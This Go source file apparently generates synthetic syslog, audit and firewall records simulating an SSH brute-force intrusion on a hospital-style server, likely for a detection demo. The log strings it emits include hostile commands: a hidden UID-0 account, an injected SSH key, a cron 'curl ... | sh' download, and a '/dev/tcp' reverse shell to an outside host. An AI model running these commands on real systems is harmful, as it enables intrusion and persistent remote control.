package demo

import "time"

// breakIn is the first attack: passwords tried until one fits, and what the intruder does to stay.
func breakIn(p *plotter) {
	jump := hisServers()[0]
	d := cast(p.day.seed, "attack/ssh", 0)
	auth := func(after time.Duration, name string, pid int, format string, args ...any) {
		p.syslog(hisLinux, after, priAuth, jump.name, name, pid, format, args...)
	}
	p.begin("ssh.probe")
	for i := range 3 {
		auth(time.Duration(i*40)*time.Second, "sshd", 4100+i, "banner exchange: Connection from %s port %d: invalid format", sshAttacker, d.port())
	}
	p.begin("ssh.bruteforce")
	names := []string{"admin", "test", "oracle", "git", "ubuntu", "his", "backup", "pacs", "user", "ftp"}
	for i := range 300 {
		after, pid, port := time.Duration(i*11)*time.Second+time.Duration(d.IntN(4000))*time.Millisecond, 4200+i/6, 40000+i/6
		if name := pick(d, names); d.chance(.5) {
			auth(after, "sshd", pid, "Failed password for invalid user %s from %s port %d ssh2", name, sshAttacker, port)
		} else {
			auth(after, "sshd", pid, "Failed password for root from %s port %d ssh2", sshAttacker, port)
		}
		if i%30 == 29 {
			auth(after+time.Second, "sshd", pid, "error: maximum authentication attempts exceeded for root from %s port %d ssh2 [preauth]", sshAttacker, port)
			auth(after+time.Second, "sshd", pid, "Disconnecting authenticating user root %s port %d: Too many authentication failures [preauth]", sshAttacker, port)
		}
	}
	p.begin("ssh.login")
	auth(0, "sshd", 4301, "Accepted password for root from %s port 51844 ssh2", sshAttacker)
	auth(20*time.Millisecond, "sshd", 4301, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")
	p.session(hisFirewall, time.Second, session{firewall: "HIS-FW01", from: sshAttacker, to: jump.addr, sport: 51844, dport: 22, proto: 6, service: "SSH",
		action: "accept", policy: 9, sent: 90_412, received: 51_233, sec: 4100})
	root := func(after time.Duration, executable, line string, pid int) {
		p.add(hisAudit, after, func(at time.Time) []byte {
			return start{host: jump, user: "root", executable: executable, line: line, parent: "/usr/bin/bash", directory: "/root", pid: pid}.json(at)
		})
	}
	root(30*time.Second, "/usr/bin/id", "id", 4310)
	root(42*time.Second, "/usr/bin/uname", "uname -a", 4312)
	root(70*time.Second, "/usr/bin/cat", "cat /etc/passwd", 4315)
	p.begin("ssh.account")
	root(0, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbak", 4331)
	auth(50*time.Millisecond, "useradd", 4331, "new user: name=sysbak, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1")
	auth(8*time.Second, "passwd", 4336, "pam_unix(passwd:chauthtok): password changed for sysbak")
	p.begin("ssh.key")
	root(0, "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEMODEMODEMODEMODEMODEMODEMODEMODEMODEMODEMOD >> ~/.ssh/authorized_keys", 4344)
	p.begin("ssh.cron")
	for i := range 4 {
		p.syslog(hisLinux, time.Duration(i*5)*time.Minute, priCron, jump.name, "CRON", 4360+i, "(root) CMD (curl -fsSL http://%s/u.sh | sh)", farEnd)
	}
	p.begin("ssh.shell")
	root(0, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/"+farEnd+"/4444 0>&1", 4391)
	p.session(hisFirewall, 2*time.Second, session{firewall: "HIS-FW01", from: jump.addr, to: farEnd, sport: 40022, dport: 4444, proto: 6, service: "tcp/4444",
		action: "accept", policy: 7, sent: 15_233, received: 8_120, sec: 2511, inside: true})
}
